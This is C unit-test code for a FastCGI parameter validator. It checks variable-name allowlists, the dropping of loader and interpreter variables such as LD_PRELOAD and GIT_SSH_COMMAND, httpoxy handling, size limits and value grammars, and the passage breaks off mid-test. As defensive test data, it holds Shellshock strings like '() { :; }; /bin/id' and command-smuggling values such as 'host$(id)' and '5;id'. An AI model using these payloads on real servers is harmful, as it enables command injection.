/*
 * Unit tests for validate.c: the table of CGI variable rules, the
 * canonical query re-escaping, the injection scanner and the suEXEC-style
 * script checks.  The corpora live in tests/data; make check sets
 * top_srcdir so that they are found from the build directory.
 */
#include <sys/stat.h>

#include <check.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "validate.h"

#define MAXP	64

/* One request's params, as libfcgi hands them to the worker. */
struct req {
	struct param	p[MAXP];
	size_t		n;
};

static void
req_setn(struct req *r, const char *name, const char *value, size_t len)
{
	size_t	i;

	for (i = 0; i < r->n; i++) {
		if (strcmp(r->p[i].name, name) == 0) {
			r->p[i].value = value;
			r->p[i].value_len = len;
			return;
		}
	}
	ck_assert_msg(r->n < MAXP, "test request has too many params");
	r->p[r->n].name = name;
	r->p[r->n].name_len = strlen(name);
	r->p[r->n].value = value;
	r->p[r->n].value_len = len;
	r->n++;
}

static void
req_set(struct req *r, const char *name, const char *value)
{
	req_setn(r, name, value, strlen(value));
}

static void
req_add(struct req *r, const char *name, const char *value)
{
	ck_assert_msg(r->n < MAXP, "test request has too many params");
	r->p[r->n].name = name;
	r->p[r->n].name_len = strlen(name);
	r->p[r->n].value = value;
	r->p[r->n].value_len = strlen(value);
	r->n++;
}

/* What nginx's fastcgi_params sends for "GET /cgi-bin/test.cgi". */
static void
req_init(struct req *r)
{
	memset(r, 0, sizeof(*r));
	req_set(r, "QUERY_STRING", "");
	req_set(r, "REQUEST_METHOD", "GET");
	req_set(r, "CONTENT_TYPE", "");
	req_set(r, "CONTENT_LENGTH", "");
	req_set(r, "SCRIPT_NAME", "/cgi-bin/test.cgi");
	req_set(r, "REQUEST_URI", "/cgi-bin/test.cgi");
	req_set(r, "DOCUMENT_URI", "/cgi-bin/test.cgi");
	req_set(r, "DOCUMENT_ROOT", "/var/www/html");
	req_set(r, "SERVER_PROTOCOL", "HTTP/1.1");
	req_set(r, "REQUEST_SCHEME", "http");
	req_set(r, "GATEWAY_INTERFACE", "CGI/1.1");
	req_set(r, "SERVER_SOFTWARE", "nginx/1.22.1");
	req_set(r, "REMOTE_ADDR", "192.0.2.10");
	req_set(r, "REMOTE_PORT", "50000");
	req_set(r, "SERVER_ADDR", "192.0.2.1");
	req_set(r, "SERVER_PORT", "80");
	req_set(r, "SERVER_NAME", "example.com");
	req_set(r, "REDIRECT_STATUS", "200");
	req_set(r, "SCRIPT_FILENAME", "/usr/lib/cgi-bin/test.cgi");
	req_set(r, "HTTP_HOST", "example.com");
	req_set(r, "HTTP_USER_AGENT", "Mozilla/5.0 (X11; Linux x86_64) "
	    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
	    "Safari/537.36");
	req_set(r, "HTTP_ACCEPT", "*/*");
}

static void
run(const struct req *r, const struct validate_opts *o,
    struct validate_result *res)
{
	ck_assert_msg(validate_params(r->p, r->n, o, res) == 0,
	    "validate_params ran out of memory");
}

static const struct finding *
find(const struct validate_result *res, enum finding_kind kind,
    const char *var, const char *rule)
{
	size_t	i;

	for (i = 0; i < res->nfindings; i++) {
		if (res->findings[i].kind != kind)
			continue;
		if (var != NULL && strcmp(res->findings[i].var, var) != 0)
			continue;
		if (rule != NULL && strcmp(res->findings[i].rule, rule) != 0)
			continue;
		return &res->findings[i];
	}
	return NULL;
}

/* All findings in one line, for failure messages. */
static const char *
describe(const struct validate_result *res)
{
	static char	buf[4096];
	size_t		i, o = 0;
	int		n;

	buf[0] = '\0';
	for (i = 0; i < res->nfindings && o < sizeof(buf); i++) {
		n = snprintf(buf + o, sizeof(buf) - o, "[%s %s %s \"%s\"] ",
		    finding_kind_name(res->findings[i].kind),
		    res->findings[i].var, res->findings[i].rule,
		    res->findings[i].excerpt);
		if (n < 0)
			break;
		o += (size_t)n;
	}
	return buf;
}

/* Run one param on top of a normal request. */
static void
run_one(const char *name, const char *value, const struct validate_opts *o,
    struct validate_result *res)
{
	struct req	r;

	req_init(&r);
	req_set(&r, name, value);
	run(&r, o, res);
}

static void
assert_refused(const char *name, const char *value, const char *rule)
{
	struct validate_result	res;

	run_one(name, value, NULL, &res);
	ck_assert_msg(res.status == 400, "%s=\"%s\" was not refused (%s)",
	    name, value, describe(&res));
	ck_assert_msg(find(&res, FINDING_REFUSED, name, rule) != NULL,
	    "%s=\"%s\" refused without a %s finding (%s)", name, value,
	    rule, describe(&res));
	ck_assert_msg(res.nenv == 0 && res.env != NULL && res.env[0] == NULL,
	    "a refused request still has an environment");
	validate_result_free(&res);
}

static void
assert_passes(const char *name, const char *value)
{
	struct validate_result	res;
	const char		*got;

	run_one(name, value, NULL, &res);
	ck_assert_msg(res.status == 0, "%s=\"%s\" was refused (%s)", name,
	    value, describe(&res));
	got = validate_getenv(&res, name);
	ck_assert_msg(got != NULL, "%s is missing from the environment", name);
	ck_assert_str_eq(got, value);
	validate_result_free(&res);
}

/* ------------------------------------------------------------ names */

START_TEST(test_names_outside_upper_digits_underscore_are_dropped)
{
	static const char *const bad[] = {
		"http_x", "HTTP-X", "HTTP X", "X=Y", "BASH_FUNC_x%%", "", "É",
	};
	struct validate_result	res;
	struct req		r;
	size_t			i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		req_init(&r);
		req_add(&r, bad[i], "v");
		run(&r, NULL, &res);
		ck_assert_msg(res.status == 0,
		    "name \"%s\" refused the request", bad[i]);
		ck_assert_msg(find(&res, FINDING_DROPPED, NULL, "name-chars") !=
		    NULL, "name \"%s\" was not reported as dropped", bad[i]);
		ck_assert_msg(res.nenv == r.n - 1 - 2 + 3,
		    "name \"%s\" reached the environment", bad[i]);
		validate_result_free(&res);
	}
}
END_TEST

START_TEST(test_dropped_name_is_escaped_in_the_finding)
{
	struct validate_result	res;
	struct req		r;

	req_init(&r);
	req_add(&r, "X\nY", "v");
	run(&r, NULL, &res);
	ck_assert_msg(find(&res, FINDING_DROPPED, "X\\x0aY", "name-chars") !=
	    NULL, "control byte in a name not escaped: %s", describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_name_over_limit_is_refused)
{
	char			name[VALIDATE_NAME_MAX + 2];
	struct validate_result	res;
	struct req		r;

	memset(name, 'A', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	req_init(&r);
	req_add(&r, name, "v");
	run(&r, NULL, &res);
	ck_assert_msg(res.status == 400, "a %zu-byte name was accepted",
	    strlen(name));
	validate_result_free(&res);
}
END_TEST

/*
 * The allowlist: RFC 3875's meta-variables, what nginx's fastcgi_params
 * sends, HTTP_* headers and what the shipped nginx snippets set.
 */
START_TEST(test_allowlisted_names_pass)
{
	static const char *const names[] = {
		"AUTH_TYPE", "CONTENT_LENGTH", "CONTENT_TYPE", "PATH_INFO",
		"PATH_TRANSLATED", "QUERY_STRING", "REMOTE_ADDR",
		"REMOTE_HOST", "REMOTE_IDENT", "REMOTE_USER",
		"REQUEST_METHOD", "SCRIPT_NAME", "SERVER_NAME", "SERVER_PORT",
		"SERVER_PROTOCOL", "SCRIPT_FILENAME", "REQUEST_URI",
		"DOCUMENT_URI", "DOCUMENT_ROOT", "REQUEST_SCHEME", "HTTPS",
		"REMOTE_PORT", "SERVER_ADDR", "REDIRECT_STATUS", "HTTP_HOST",
		"HTTP_USER_AGENT", "HTTP_X_FORWARDED_FOR", "HTTP_COOKIE",
		"HTTP_REFERER", "GIT_PROJECT_ROOT", "GIT_HTTP_EXPORT_ALL",
		"CGIT_CONFIG", "FCGI_ROLE",
	};
	struct validate_result	res;
	size_t			i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		run_one(names[i], "", NULL, &res);
		ck_assert_msg(res.status == 0, "%s refused the request (%s)",
		    names[i], describe(&res));
		ck_assert_msg(validate_getenv(&res, names[i]) != NULL,
		    "allowlisted %s was dropped (%s)", names[i],
		    describe(&res));
		validate_result_free(&res);
	}
	assert_passes("GIT_PROJECT_ROOT", "/srv/git");
	assert_passes("CGIT_CONFIG", "/etc/cgitrc");
	assert_passes("REMOTE_USER", "alice");
}
END_TEST

/*
 * Names outside the allowlist, as a direct FastCGI client sends them:
 * each changes what git, OpenSSL, less, a shell or a library does.
 */
START_TEST(test_names_outside_the_allowlist_are_dropped)
{
	static const char *const names[] = {
		"HOME", "XDG_CONFIG_HOME", "GIT_CONFIG_PARAMETERS",
		"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0",
		"GIT_EXEC_PATH", "GIT_SSH_COMMAND", "GIT_DIR", "OPENSSL_CONF",
		"LESSOPEN", "EDITOR", "SSL_CERT_FILE", "CURL_CA_BUNDLE",
		"GITWEB_CONFIG", "X_9", "HTTP", "SERVER", "REQUEST",
	};
	struct validate_result	res;
	size_t			i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		run_one(names[i], "/tmp/x", NULL, &res);
		ck_assert_msg(res.status == 0, "%s refused the request (%s)",
		    names[i], describe(&res));
		ck_assert_msg(validate_getenv(&res, names[i]) == NULL,
		    "%s reached the environment", names[i]);
		ck_assert_msg(find(&res, FINDING_DROPPED, names[i],
		    "unlisted-name") != NULL, "%s drop not reported: %s",
		    names[i], describe(&res));
		validate_result_free(&res);
	}
}
END_TEST

START_TEST(test_profile_pass_allows_a_name_outside_the_allowlist)
{
	static const char *const pass[] = { "GITWEB_CONFIG", "APP_*", NULL };
	struct validate_opts	o = { .pass = pass };
	struct validate_result	res;
	const char		*v;

	run_one("GITWEB_CONFIG", "/etc/gitweb.conf", &o, &res);
	v = validate_getenv(&res, "GITWEB_CONFIG");
	ck_assert_msg(v != NULL, "passed GITWEB_CONFIG was dropped: %s",
	    describe(&res));
	ck_assert_str_eq(v, "/etc/gitweb.conf");
	validate_result_free(&res);
	run_one("APP_MODE", "test", &o, &res);
	ck_assert_msg(validate_getenv(&res, "APP_MODE") != NULL,
	    "APP_* in pass did not let APP_MODE through: %s",
	    describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_a_passed_name_outside_the_allowlist_is_still_checked)
{
	static const char *const pass[] = { "HOME", NULL };
	struct validate_opts	o = { .pass = pass };
	struct validate_result	res;

	run_one("HOME", "() { :; }; /bin/id", &o, &res);
	ck_assert_msg(res.status == 400, "Shellshock in a passed name ran");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_httpoxy_is_never_passed_even_when_the_profile_passes_it)
{
	static const char *const pass[] = { "HTTP_PROXY", "HTTP_*", NULL };
	struct validate_opts	o = { .pass = pass };
	struct validate_result	res;

	run_one("HTTP_PROXY", "http://192.0.2.4:8080/", &o, &res);
	ck_assert_msg(res.status == 0, "httpoxy refused the request");
	ck_assert_msg(validate_getenv(&res, "HTTP_PROXY") == NULL,
	    "HTTP_PROXY reached the environment");
	ck_assert_msg(find(&res, FINDING_DROPPED, "HTTP_PROXY", "httpoxy") !=
	    NULL, "httpoxy not reported: %s", describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_loader_and_interpreter_variables_are_dropped)
{
	static const char *const names[] = {
		"LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "BASH_ENV", "ENV",
		"IFS", "PERL5LIB", "PERL5OPT", "PYTHONPATH", "PYTHONSTARTUP",
		"GLIBC_TUNABLES", "GCONV_PATH", "MALLOC_CHECK_", "NODE_OPTIONS",
		"RUBYOPT", "SHELLOPTS", "PS4", "HTTPS_PROXY", "PHPRC", "LD_",
		"PYTHON",
	};
	struct validate_result	res;
	size_t			i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		run_one(names[i], "/tmp/x", NULL, &res);
		ck_assert_msg(validate_getenv(&res, names[i]) == NULL,
		    "%s reached the environment", names[i]);
		ck_assert_msg(find(&res, FINDING_DROPPED, names[i],
		    "unsafe-name") != NULL, "%s drop not reported: %s",
		    names[i], describe(&res));
		validate_result_free(&res);
	}
}
END_TEST

START_TEST(test_profile_pass_re_allows_a_default_drop)
{
	static const char *const pass[] = { "PERL5LIB", NULL };
	struct validate_opts	o = { .pass = pass };
	struct validate_result	res;
	const char		*v;

	run_one("PERL5LIB", "/usr/share/app/lib", &o, &res);
	v = validate_getenv(&res, "PERL5LIB");
	ck_assert_msg(v != NULL, "passed PERL5LIB was dropped: %s",
	    describe(&res));
	ck_assert_str_eq(v, "/usr/share/app/lib");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_profile_pass_accepts_a_prefix_pattern)
{
	static const char *const pass[] = { "LD_*", NULL };
	struct validate_opts	o = { .pass = pass };
	struct validate_result	res;

	run_one("LD_BIND_NOW", "1", &o, &res);
	ck_assert_msg(validate_getenv(&res, "LD_BIND_NOW") != NULL,
	    "LD_* in pass did not let LD_BIND_NOW through");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_profile_drop_removes_a_custom_param)
{
	static const char *const drop[] = { "GIT_*", NULL };
	struct validate_opts	o = { .drop = drop };
	struct validate_result	res;

	run_one("GIT_PROJECT_ROOT", "/srv/git", &o, &res);
	ck_assert_msg(validate_getenv(&res, "GIT_PROJECT_ROOT") == NULL,
	    "dropped GIT_PROJECT_ROOT reached the environment");
	ck_assert_msg(find(&res, FINDING_DROPPED, "GIT_PROJECT_ROOT",
	    "profile-drop") != NULL, "profile drop not reported: %s",
	    describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_safecgi_profile_is_consumed_not_passed)
{
	struct validate_result	res;

	run_one("SAFECGI_PROFILE", "git-http-backend", NULL, &res);
	ck_assert_int_eq(res.status, 0);
	ck_assert_str_eq(res.profile, "git-http-backend");
	ck_assert_msg(validate_getenv(&res, "SAFECGI_PROFILE") == NULL,
	    "SAFECGI_PROFILE reached the script");
	ck_assert_msg(res.nfindings == 0, "consuming the profile name is "
	    "not a finding: %s", describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_invalid_safecgi_profile_is_refused)
{
	assert_refused("SAFECGI_PROFILE", "../etc/x", "profile-name");
	assert_refused("SAFECGI_PROFILE", "a b", "profile-name");
}
END_TEST

START_TEST(test_gateway_software_and_path_are_set_by_safecgi)
{
	struct validate_opts	o = { .server_software = "safecgi/9.9",
				      .path = "/bin" };
	struct validate_result	res;
	struct req		r;

	req_init(&r);
	run(&r, &o, &res);
	ck_assert_str_eq(validate_getenv(&res, "GATEWAY_INTERFACE"),
	    "CGI/1.1");
	ck_assert_str_eq(validate_getenv(&res, "SERVER_SOFTWARE"),
	    "safecgi/9.9");
	ck_assert_str_eq(validate_getenv(&res, "PATH"), "/bin");
	ck_assert_msg(res.nfindings == 0, "nginx's own GATEWAY_INTERFACE and "
	    "SERVER_SOFTWARE made findings: %s", describe(&res));
	validate_result_free(&res);

	run(&r, NULL, &res);
	ck_assert_str_eq(validate_getenv(&res, "SERVER_SOFTWARE"), "safecgi");
	ck_assert_str_eq(validate_getenv(&res, "PATH"),
	    "/usr/local/bin:/usr/bin:/bin");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_path_from_params_is_replaced_and_reported)
{
	struct validate_result	res;

	run_one("PATH", "/tmp/evil:/bin", NULL, &res);
	ck_assert_str_eq(validate_getenv(&res, "PATH"),
	    "/usr/local/bin:/usr/bin:/bin");
	ck_assert_msg(find(&res, FINDING_DROPPED, "PATH", "set-by-safecgi") !=
	    NULL, "replaced PATH not reported: %s", describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_duplicate_param_first_wins)
{
	struct validate_result	res;
	struct req		r;
	size_t			i, count = 0;

	req_init(&r);
	req_add(&r, "HTTP_X_A", "first");
	req_add(&r, "HTTP_X_A", "second");
	run(&r, NULL, &res);
	ck_assert_str_eq(validate_getenv(&res, "HTTP_X_A"), "first");
	for (i = 0; i < res.nenv; i++)
		if (strncmp(res.env[i], "HTTP_X_A=", 9) == 0)
			count++;
	ck_assert_msg(count == 1, "HTTP_X_A is in the environment %zu times",
	    count);
	ck_assert_msg(find(&res, FINDING_DROPPED, "HTTP_X_A", "duplicate") !=
	    NULL, "duplicate not reported: %s", describe(&res));
	validate_result_free(&res);
}
END_TEST

/* ----------------------------------------------------------- values */

START_TEST(test_nul_byte_in_value_is_refused)
{
	static const char	v[] = "abc\0def";
	struct validate_result	res;
	struct req		r;

	req_init(&r);
	req_setn(&r, "HTTP_X_A", v, sizeof(v) - 1);
	run(&r, NULL, &res);
	ck_assert_msg(res.status == 400, "a NUL inside a value passed");
	ck_assert_msg(find(&res, FINDING_REFUSED, "HTTP_X_A", "control-byte") !=
	    NULL, "NUL refused without control-byte: %s", describe(&res));
	ck_assert_msg(strstr(res.findings[0].excerpt, "\\x00") != NULL,
	    "excerpt does not show the NUL: %s", res.findings[0].excerpt);
	validate_result_free(&res);
}
END_TEST

START_TEST(test_every_control_byte_is_refused_outside_headers)
{
	struct validate_result	res;
	char			v[4];
	int			c;

	for (c = 0; c < 0x80; c++) {
		if (c >= 0x20 && c != 0x7f)
			continue;
		v[0] = 'a';
		v[1] = (char)c;
		v[2] = 'b';
		v[3] = '\0';
		{
			struct req	r;

			req_init(&r);
			req_setn(&r, "PATH_INFO", v, 3);
			run(&r, NULL, &res);
		}
		ck_assert_msg(res.status == 400,
		    "byte 0x%02x in PATH_INFO passed", c);
		validate_result_free(&res);
	}
}
END_TEST

START_TEST(test_tab_is_allowed_in_http_headers_only)
{
	struct validate_result	res;

	run_one("HTTP_X_A", "a\tb", NULL, &res);
	ck_assert_msg(res.status == 0, "a tab in a header was refused: %s",
	    describe(&res));
	validate_result_free(&res);
	assert_refused("QUERY_STRING", "a=\tb", "control-byte");
	assert_refused("GIT_PROJECT_ROOT", "/srv\t/git", "control-byte");
}
END_TEST

START_TEST(test_value_over_its_limit_is_refused_not_truncated)
{
	char			*v;
	struct validate_result	res;

	v = malloc(VALIDATE_VALUE_MAX + 2);
	memset(v, 'a', VALIDATE_VALUE_MAX + 1);
	v[VALIDATE_VALUE_MAX + 1] = '\0';
	run_one("HTTP_X_A", v, NULL, &res);
	ck_assert_msg(res.status == 400, "a %d-byte header passed",
	    VALIDATE_VALUE_MAX + 1);
	ck_assert_msg(find(&res, FINDING_REFUSED, "HTTP_X_A", "too-long") !=
	    NULL, "no too-long finding: %s", describe(&res));
	validate_result_free(&res);

	v[VALIDATE_VALUE_MAX] = '\0';
	run_one("HTTP_X_A", v, NULL, &res);
	ck_assert_msg(res.status == 0, "a header at the limit was refused");
	ck_assert_uint_eq(strlen(validate_getenv(&res, "HTTP_X_A")),
	    VALIDATE_VALUE_MAX);
	validate_result_free(&res);
	free(v);
}
END_TEST

START_TEST(test_query_uri_and_cookie_have_the_long_limit)
{
	static const char *const names[] = {
		"QUERY_STRING", "HTTP_COOKIE",
	};
	struct validate_result	res;
	char			*v;
	size_t			i;

	v = malloc(VALIDATE_LONG_MAX + 2);
	for (i = 0; i < 2; i++) {
		memset(v, 'a', VALIDATE_LONG_MAX);
		v[VALIDATE_LONG_MAX] = '\0';
		run_one(names[i], v, NULL, &res);
		ck_assert_msg(res.status == 0, "%s at %d bytes was refused: %s",
		    names[i], VALIDATE_LONG_MAX, describe(&res));
		validate_result_free(&res);
		v[VALIDATE_LONG_MAX] = 'a';
		v[VALIDATE_LONG_MAX + 1] = '\0';
		run_one(names[i], v, NULL, &res);
		ck_assert_msg(res.status == 400, "%s over %d bytes passed",
		    names[i], VALIDATE_LONG_MAX);
		validate_result_free(&res);
	}
	v[0] = '/';
	v[VALIDATE_LONG_MAX] = '\0';
	run_one("REQUEST_URI", v, NULL, &res);
	ck_assert_msg(res.status == 0, "REQUEST_URI at the limit was refused");
	validate_result_free(&res);
	free(v);
}
END_TEST

START_TEST(test_environment_over_total_limit_is_refused)
{
	static const char *const names[] = {
		"HTTP_X_0", "HTTP_X_1", "HTTP_X_2", "HTTP_X_3", "HTTP_X_4",
		"HTTP_X_5", "HTTP_X_6", "HTTP_X_7", "HTTP_X_8", "HTTP_X_9",
		"HTTP_X_10", "HTTP_X_11", "HTTP_X_12", "HTTP_X_13", "HTTP_X_14",
		"HTTP_X_15", "HTTP_X_16",
	};
	struct validate_result	res;
	struct req		r;
	char			*v;
	size_t			i;

	/* 17 headers of 8000 bytes: each fine, together over 128 KiB. */
	v = malloc(8001);
	memset(v, 'a', 8000);
	v[8000] = '\0';
	req_init(&r);
	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		req_add(&r, names[i], v);
	run(&r, NULL, &res);
	ck_assert_msg(res.status == 400, "a %zu-byte environment passed",
	    sizeof(names) / sizeof(names[0]) * 8000);
	ck_assert_msg(find(&res, FINDING_REFUSED, "", "env-too-large") != NULL,
	    "no env-too-large finding: %s", describe(&res));
	validate_result_free(&res);
	free(v);
}
END_TEST

START_TEST(test_max_env_bytes_option_sets_the_total_limit)
{
	struct validate_opts	o = { .max_env_bytes = 1024 };
	struct validate_result	res;
	char			v[1025];

	memset(v, 'a', 1024);
	v[1024] = '\0';
	run_one("HTTP_X_A", v, &o, &res);
	ck_assert_msg(res.status == 400, "max_env_bytes 1024 was not applied");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_too_many_params_are_refused)
{
	struct param		*p;
	struct validate_result	res;
	size_t			i, n = VALIDATE_PARAMS_MAX + 1;

	p = calloc(n, sizeof(*p));
	for (i = 0; i < n; i++) {
		p[i].name = "HTTP_X";
		p[i].name_len = 6;
		p[i].value = "v";
		p[i].value_len = 1;
	}
	ck_assert_int_eq(validate_params(p, n, NULL, &res), 0);
	ck_assert_msg(res.status == 400, "%zu params were accepted", n);
	validate_result_free(&res);
	free(p);
}
END_TEST

/*
 * A direct FastCGI client may send params that are dropped, not passed:
 * they count against the cap all the same, and are not scanned.
 */
START_TEST(test_params_over_the_byte_cap_are_refused)
{
	struct validate_result	res;
	char			*v;

	v = malloc(VALIDATE_PARAMS_BYTES_MAX + 1);
	ck_assert_ptr_nonnull(v);
	memset(v, 'a', VALIDATE_PARAMS_BYTES_MAX);
	v[VALIDATE_PARAMS_BYTES_MAX] = '\0';
	run_one("UNLISTED_BULK", v, NULL, &res);
	ck_assert_msg(res.status == 400, "%d bytes of params were accepted",
	    VALIDATE_PARAMS_BYTES_MAX);
	ck_assert_msg(find(&res, FINDING_REFUSED, NULL, "params-too-large") !=
	    NULL, "no params-too-large finding: %s", describe(&res));
	validate_result_free(&res);
	free(v);
}
END_TEST

START_TEST(test_many_dropped_params_count_against_the_byte_cap)
{
	struct param		*p;
	struct validate_result	res;
	static char		v[8192];
	size_t			i, n = VALIDATE_PARAMS_BYTES_MAX / 8192 + 1;

	memset(v, 'a', sizeof(v));
	p = calloc(n, sizeof(*p));
	ck_assert_ptr_nonnull(p);
	for (i = 0; i < n; i++) {
		/* the same name: every copy but the first is a duplicate */
		p[i].name = "HOME";
		p[i].name_len = 4;
		p[i].value = v;
		p[i].value_len = sizeof(v);
	}
	ck_assert_int_eq(validate_params(p, n, NULL, &res), 0);
	ck_assert_msg(res.status == 400, "%zu dropped params of 8 KiB were "
	    "accepted", n);
	validate_result_free(&res);
	free(p);
}
END_TEST

START_TEST(test_a_raised_env_limit_raises_the_byte_cap)
{
	struct validate_opts	o = { .max_env_bytes = 4 * 1024 * 1024 };
	struct validate_result	res;
	char			*v;

	v = malloc(VALIDATE_PARAMS_BYTES_MAX + 1);
	ck_assert_ptr_nonnull(v);
	memset(v, 'a', VALIDATE_PARAMS_BYTES_MAX);
	v[VALIDATE_PARAMS_BYTES_MAX] = '\0';
	run_one("UNLISTED_BULK", v, &o, &res);
	ck_assert_msg(find(&res, FINDING_REFUSED, NULL, "params-too-large") ==
	    NULL, "a 4 MiB environment limit kept the default byte cap");
	validate_result_free(&res);
	free(v);
}
END_TEST

START_TEST(test_findings_are_capped_and_the_rest_counted)
{
	struct param		*p;
	struct validate_result	res;
	size_t			i, n = VALIDATE_FINDINGS_MAX + 10;

	p = calloc(n, sizeof(*p));
	for (i = 0; i < n; i++) {
		p[i].name = "bad-name";
		p[i].name_len = 8;
		p[i].value = "v";
		p[i].value_len = 1;
	}
	ck_assert_int_eq(validate_params(p, n, NULL, &res), 0);
	ck_assert_uint_eq(res.nfindings, VALIDATE_FINDINGS_MAX);
	ck_assert_uint_eq(res.nfindings_lost, 10);
	validate_result_free(&res);
	free(p);
}
END_TEST

START_TEST(test_shellshock_in_any_variable_is_refused)
{
	static const char *const names[] = {
		"HTTP_USER_AGENT", "HTTP_REFERER", "HTTP_COOKIE", "HTTP_X_ANY",
		"GIT_PROJECT_ROOT", "PATH_INFO", "REMOTE_USER",
	};
	static const char *const values[] = {
		"() { :; }; /bin/id", "(){ :;};id", "()  {_;} >_[$($())] {id;}",
		" ( ) {", "() {",
	};
	size_t	i, j;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		for (j = 0; j < sizeof(values) / sizeof(values[0]); j++)
			assert_refused(names[i], values[j], "shellshock");
}
END_TEST

START_TEST(test_empty_values_count_as_unset_and_pass_empty)
{
	static const char *const names[] = {
		"CONTENT_LENGTH", "CONTENT_TYPE", "REMOTE_PORT", "HTTP_HOST",
		"QUERY_STRING", "HTTPS", "SERVER_PORT",
	};
	size_t	i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		assert_passes(names[i], "");
}
END_TEST

/* --------------------------------------------------------- grammars */

START_TEST(test_content_length_must_be_digits)
{
	struct validate_result	res;

	assert_passes("CONTENT_LENGTH", "0");
	assert_passes("CONTENT_LENGTH", "1048576");
	assert_refused("CONTENT_LENGTH", "-1", "grammar");
	assert_refused("CONTENT_LENGTH", "+5", "grammar");
	assert_refused("CONTENT_LENGTH", " 5", "grammar");
	assert_refused("CONTENT_LENGTH", "5;id", "grammar");
	assert_refused("CONTENT_LENGTH", "0x10", "grammar");
	run_one("CONTENT_LENGTH", "1234", NULL, &res);
	ck_assert_int_eq(res.content_length, 1234);
	validate_result_free(&res);
	run_one("CONTENT_LENGTH", "", NULL, &res);
	ck_assert_int_eq(res.content_length, -1);
	validate_result_free(&res);
}
END_TEST

START_TEST(test_content_length_overflow_is_refused)
{
	struct validate_result	res;

	run_one("CONTENT_LENGTH", "9223372036854775807", NULL, &res);
	ck_assert_int_eq(res.status, 0);
	ck_assert_int_eq(res.content_length, INT64_MAX);
	validate_result_free(&res);
	assert_refused("CONTENT_LENGTH", "9223372036854775808", "grammar");
	assert_refused("CONTENT_LENGTH", "99999999999999999999", "grammar");
}
END_TEST

START_TEST(test_content_type_follows_the_media_type_grammar)
{
	assert_passes("CONTENT_TYPE", "application/x-www-form-urlencoded");
	assert_passes("CONTENT_TYPE",
	    "multipart/form-data; boundary=----WebKitFormBoundaryAbC123");
	assert_passes("CONTENT_TYPE", "text/plain;charset=utf-8");
	assert_passes("CONTENT_TYPE", "text/plain; charset=\"utf-8\"");
	assert_passes("CONTENT_TYPE", "multipart/mixed; boundary=\"a b:c\"");
	assert_passes("CONTENT_TYPE", "application/json;");
	assert_passes("CONTENT_TYPE", "application/vnd.api+json");
	assert_refused("CONTENT_TYPE", "text", "grammar");
	assert_refused("CONTENT_TYPE", "text/", "grammar");
	assert_refused("CONTENT_TYPE", "text/html;charset", "grammar");
	assert_refused("CONTENT_TYPE", "text/html; a=\"open", "grammar");
	assert_refused("CONTENT_TYPE", "text/x$(id)", "grammar");
	assert_refused("CONTENT_TYPE", "text/html; a=b c", "grammar");
}
END_TEST

START_TEST(test_request_method_is_what_nginx_accepts)
{
	assert_passes("REQUEST_METHOD", "GET");
	assert_passes("REQUEST_METHOD", "VERSION-CONTROL");
	assert_passes("REQUEST_METHOD", "M_SEARCH");
	assert_refused("REQUEST_METHOD", "get", "grammar");
	assert_refused("REQUEST_METHOD", "GET|id", "grammar");
	assert_refused("REQUEST_METHOD", "G T", "grammar");
}
END_TEST

START_TEST(test_ports_are_1_to_65535)
{
	assert_passes("SERVER_PORT", "1");
	assert_passes("SERVER_PORT", "65535");
	assert_passes("REMOTE_PORT", "50000");
	assert_refused("SERVER_PORT", "0", "grammar");
	assert_refused("SERVER_PORT", "65536", "grammar");
	assert_refused("REMOTE_PORT", "080", "grammar");
	assert_refused("REMOTE_PORT", "80a", "grammar");
	assert_refused("REMOTE_PORT", "99999999999", "too-long");
}
END_TEST

START_TEST(test_addresses_are_ip_literals_or_unix)
{
	static const char *const good[] = {
		"192.0.2.1", "0.0.0.0", "255.255.255.255", "::1", "::",
		"2001:db8::1", "fe80::1:2:3:4", "1:2:3:4:5:6:7:8",
		"::ffff:192.0.2.1", "1::", "1:2:3:4:5:6:7::", "unix:",
		"unix:/run/nginx.sock",
	};
	static const char *const bad[] = {
		"256.0.0.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1.2.3.4 ",
		"1:2:3:4:5:6:7:8:9", "1::2::3", ":1", "1:", "12345::",
		"::ffff:1.2.3", "localhost", "1.2.3.4;id", "[::1]",
		"fe80::1%eth0",
	};
	size_t	i;

	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		assert_passes("REMOTE_ADDR", good[i]);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_refused("SERVER_ADDR", bad[i], "grammar");
}
END_TEST

START_TEST(test_http_host_is_host_and_optional_port)
{
	static const char *const good[] = {
		"example.com", "Example.COM:8080", "[::1]", "[::1]:8080",
		"192.0.2.1:80", "my_host.local", "example.com.", "a:",
	};
	static const char *const bad[] = {
		"example.com:99999", "exa mple.com", "[::1", "[zz]:80", ":80",
		"example.com/x", "host$(id)", "host;id", "bücher.example",
	};
	size_t	i;

	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		assert_passes("HTTP_HOST", good[i]);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_refused("HTTP_HOST", bad[i], "grammar");
}
END_TEST

START_TEST(test_server_protocol_is_http_version)
{
	assert_passes("SERVER_PROTOCOL", "HTTP/1.0");
